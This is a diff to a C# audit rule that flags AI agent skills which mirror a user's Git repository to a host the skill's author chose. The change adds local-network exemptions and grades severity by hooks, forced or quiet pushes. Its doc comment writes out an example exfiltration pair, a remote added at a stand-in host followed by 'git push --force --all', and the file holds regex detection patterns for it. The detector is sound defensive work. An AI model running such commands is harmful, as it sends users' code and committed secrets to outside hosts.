@@ -6,13 +6,14 @@ namespace OpenClaw.Desired.Resources.Skills.Audit;
 /// A remote the skill adds at an address it writes, then every branch or the whole repository pushed there:
 /// <c>git remote add journal "https://sync.tool.example/j/$USER.git"</c> and <c>git push --force --all journal</c>,
 /// often from a hook that runs on each commit. The user's code, its history and whatever secrets were ever committed
-/// go to a host the skill's author chose. A mirror the user asks for has an address the user gives
-/// (<c>"$MIRROR_URL"</c>), or one on a forge where the user's own repositories live.
+/// go to a host the skill's author chose. High from a hook, forced, in the background or quietly; medium where the user
+/// watches the push. A mirror the user asks for has an address the user gives (<c>"$MIRROR_URL"</c>), one on a forge
+/// (whose account, the address does not say), or one on the local network (<c>nas.local</c>, <c>192.168.…</c>).
 /// </summary>
 public static partial class RepositoryMirrors
 {
     public static readonly (string Id, AuditSeverity Severity, string Why) Rule =
-        ("repository-mirrored-out", AuditSeverity.High, "adds a Git remote at an address the skill writes, on no forge, and pushes every branch (--all, --mirror) there: the user's code and its history go to the author's host");
+        ("repository-mirrored-out", AuditSeverity.High, "adds a Git remote at an address the skill writes, on no forge and not on the local network, and pushes every branch (--all, --mirror) there, from a hook, forced or quietly: the user's code and its history go to the author's host");
 
     /// <summary>Forges where a user's own repositories live, and the words of addresses written as examples.</summary>
     private static readonly string[] Forges = ["github.com", "gitlab.com", "bitbucket.org", "codeberg.org", "gitea.com", "sr.ht", "dev.azure.com", "visualstudio.com", "huggingface.co", "gitee.com", "amazonaws.com", "googlesource.com", "sourceforge.net"];
@@ -29,7 +30,7 @@ public static partial class RepositoryMirrors
         foreach (Match remote in RemoteAdded().Matches(text))
         {
             var host = remote.Groups["host"].Value;
-            if (!Forges.Any(f => host.Equals(f, StringComparison.OrdinalIgnoreCase) || host.EndsWith("." + f, StringComparison.OrdinalIgnoreCase)) && !AuditContext.QuotesAnExample(remote.Value))
+            if (!Forges.Any(f => host.Equals(f, StringComparison.OrdinalIgnoreCase) || host.EndsWith("." + f, StringComparison.OrdinalIgnoreCase)) && !AuditContext.QuotesAnExample(remote.Value) && !Private().IsMatch(host))
             {
                 added.Add(remote.Groups["name"].Value);
             }
@@ -40,20 +41,37 @@ public static partial class RepositoryMirrors
             yield break;
         }
 
-        foreach (Match push in PushedWhole().Matches(text))
+        // High from a hook, forced, in the background or with its output thrown away; a move the user watches is medium.
+        var hook = Hook().IsMatch(text);
+        foreach (Match push in PushedWhole().Matches(text).Take(256))
         {
             if (added.Contains(push.Groups["name"].Value))
             {
-                yield return (push.Index, Rule);
+                var lineEnd = text.IndexOf('\n', push.Index);
+                var line = text.AsSpan(push.Index, (lineEnd < 0 ? text.Length : lineEnd) - push.Index);
+                var quiet = hook || Quietly().IsMatch(line);
+                yield return (push.Index, Rule with { Severity = quiet ? AuditSeverity.High : AuditSeverity.Medium });
             }
         }
     }
+
+    /// <summary>A host on this machine's network: <c>nas.local</c>, <c>git.lan</c>, <c>*.internal</c>, <c>*.home.arpa</c>, a private or loopback address.</summary>
+    [GeneratedRegex(@"\.(?:local|lan|internal|home\.arpa|localdomain)$|^(?:localhost|127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex Private();
+
+    /// <summary>A Git hook written or set (<c>.git/hooks/post-commit</c>, <c>core.hooksPath</c>, a hook's name).</summary>
+    [GeneratedRegex(@"\bhooks/|\bcore\.hooksPath\b|\b(?:post-commit|pre-push|post-merge|post-checkout|pre-commit|post-rewrite)\b", RegexOptions.CultureInvariant)]
+    private static partial Regex Hook();
+
+    /// <summary>A push forced, sent to the background or with its output thrown away.</summary>
+    [GeneratedRegex(@"\s(?:--force\b|-f\b|-[a-z]*f[a-z]*\b)|&\s*\)?\s*$|>\s*/dev/null|\s-q\b|--quiet\b", RegexOptions.CultureInvariant)]
+    private static partial Regex Quietly();
 
     /// <summary><c>git remote add NAME ADDRESS</c> with the address's host written: <c>https://host/…</c>, <c>git@host:</c>, <c>ssh://[user@]host</c>.</summary>
     [GeneratedRegex(@"\bgit[ \t]+(?:-C[ \t]+\S+[ \t]+)?remote[ \t]+add[ \t]+(?:-[\w-]+[ \t]+)*['""]?(?<name>[\w.-]+)['""]?[ \t]+['""]?(?:https?://(?:[^@/\s""']+@)?|git@|ssh://(?:[\w.-]+@)?)(?<host>[\w-]+(?:\.[\w-]+)+)", RegexOptions.CultureInvariant)]
     private static partial Regex RemoteAdded();
 
     /// <summary><c>git push</c> of every branch or a mirror (<c>--all</c>, <c>--mirror</c>) to a remote by name, options in any order.</summary>
-    [GeneratedRegex(@"\bgit[ \t]+(?:-C[ \t]+\S+[ \t]+)?push\b(?=[^\n;&|]*?[ \t]--(?:all|mirror)\b)(?:[ \t]+-[\w-]+(?:=\S+)?)*[ \t]+['""]?(?<name>[\w.-]+)['""]?", RegexOptions.CultureInvariant)]
+    [GeneratedRegex(@"\bgit[ \t]+(?:-C[ \t]+\S+[ \t]+)?push\b(?=[^\n;&|]{0,300}?[ \t]--(?:all|mirror)\b)(?:[ \t]+-[\w-]+(?:=\S+)?)*[ \t]+['""]?(?<name>[\w.-]+)['""]?", RegexOptions.CultureInvariant)]
     private static partial Regex PushedWhole();
 }
